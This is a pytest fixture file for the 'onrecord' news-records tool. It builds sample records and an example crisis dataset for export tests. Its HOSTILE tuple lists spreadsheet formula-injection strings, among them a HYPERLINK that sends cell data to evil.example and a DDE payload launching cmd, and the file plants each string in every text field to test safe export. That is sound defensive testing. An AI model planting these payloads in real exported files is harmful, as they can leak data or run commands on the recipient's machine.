"""Records to export: a pile made without any stage, one full of hostile cells, and the example crisis."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

import onrecord
from onrecord.records import ActorMention, Article, Figure, Finding, Records, Statement
from tests.store.samples import RUN, pile

EXAMPLE = Path(__file__).parent.parent.parent / "examples" / "port-amarel"
PART = ("01", "02", "05", "06", "08")
"""The pages of the example that are read: a wire with its copy and a rewrite, and two that contradict each other."""

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"port")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "\x00=1+1", " =1+1", "\ufeff=1+1", "\u200b@SUM(1)", "＝1+1", '"=1+1', "=1+1\r\n=2+2", '=cmd|\'/c calc\'!A0',
    "';=1+1", ",=1+1",
)  # fmt: skip
"""Texts that a spreadsheet might run, or that might break out of their cell."""


@pytest.fixture
def sample() -> Records:
    """Two pages in which every kind of record occurs."""
    return Records([*pile(), RUN])


def hostile(text: str) -> Records:
    """The same pile with a hostile text wherever a page's own words may stand."""
    records = Records([*pile(), RUN])
    for article in records.all(Article):
        records.add(replace(article, title=text, publisher=text, authors=(text,), url=text))
    for statement in records.all(Statement):
        records.add(replace(statement, via=text, addressee=text))
    for mention in records.all(ActorMention):
        records.add(replace(mention, name=text, role=text))
    for figure in records.all(Figure):
        records.add(replace(figure, value=-5.0, low=-6.5, counted=text, unit=text))
    for finding in records.all(Finding):
        records.add(replace(finding, topic=text, actor=text, reason=text))
    return records


@pytest.fixture(params=HOSTILE, ids=lambda text: ascii(text)[:20])
def hostile_text(request: pytest.FixtureRequest) -> str:
    """Each hostile text."""
    return str(request.param)


@pytest.fixture(scope="session")
def build_example(tmp_path_factory: pytest.TempPathFactory) -> Callable[..., Path]:
    """Reads a part of the example crisis, with so many workers and, if asked, its pages in another order."""

    def build(name: str, *, workers: int, shuffle: bool = False) -> Path:
        inputs = sorted(file for file in EXAMPLE.iterdir() if file.name.startswith(PART))
        if shuffle:
            random.Random(7).shuffle(inputs)
        output = tmp_path_factory.mktemp("example") / f"{name}.db"
        onrecord.build(inputs, output, settings=onrecord.load_settings(workers=workers)).close()
        return output

    return build


@pytest.fixture(scope="session")
def example(build_example: Callable[..., Path]) -> Path:
    """The record of a part of the example crisis."""
    return build_example("one", workers=1)
